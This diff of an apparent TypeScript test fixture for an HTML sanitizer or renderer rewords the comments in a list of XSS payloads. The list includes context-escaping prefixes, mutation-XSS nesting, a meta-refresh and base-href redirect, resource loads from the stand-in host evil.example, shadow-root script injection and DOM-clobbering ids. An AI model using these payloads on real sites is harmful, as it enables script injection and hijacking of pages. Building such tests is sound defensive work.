@@ -3,12 +3,12 @@
  * behind each way out of the place where words stand. What runs sets `window.broken`; what loads asks EVIL.
  */
 
-/** Nothing of it may be asked for, but pictures. */
+/** Only pictures may be requested from it. */
 export const EVIL = 'https://evil.example';
 
 const RUN = 'top.broken=1';
 
-/** Before a text: what ends the place in which it stands. */
+/** Before a text: characters that end the place of the text. */
 const WAYS_OUT = [
   (text: string) => text,
   (text: string) => `">${text}`,
@@ -16,9 +16,9 @@ const WAYS_OUT = [
   (text: string) => `</title></style></script>${text}`,
   (text: string) => `--></noscript></noframes></template></textarea>${text}`,
   (text: string) => `]]></p></li></main></body></html>${text}`,
-  // A parser that is told to parse again finds other elements than the first time.
+  // A parser that parses twice finds other elements the second time.
   (text: string) => `<math><mtext><table><mglyph><style><!--</style>${text}`,
-  // What is decoded once too often.
+  // Text that is decoded once too often.
   (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
 ];
 
@@ -47,7 +47,7 @@ const ATTACKS = [
   `<link rel="stylesheet" href="${EVIL}/x.css"><link rel="modulepreload" href="${EVIL}/x.js">`,
   `<meta http-equiv="refresh" content="0;url=${EVIL}/"><base href="${EVIL}/">`,
   `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
-  // Marks of React's and of ours, and names that hide elements of the page.
+  // Marks of React and of our code, and names that hide elements of the page.
   `<!--$?--><template id="B:0"></template><!--/$--><div hidden id="S:0"><script>${RUN}</script></div>`,
   `<div data-island="radio" data-props='{"streamUrl":"${EVIL}/x"}'></div><a data-see-all data-play="${EVIL}/x" href="#x">x</a>`,
   `<img id="main" name="trustedTypes" src="/broken.png"><a id="masthead"></a><form id="earlyRadio"></form>`,
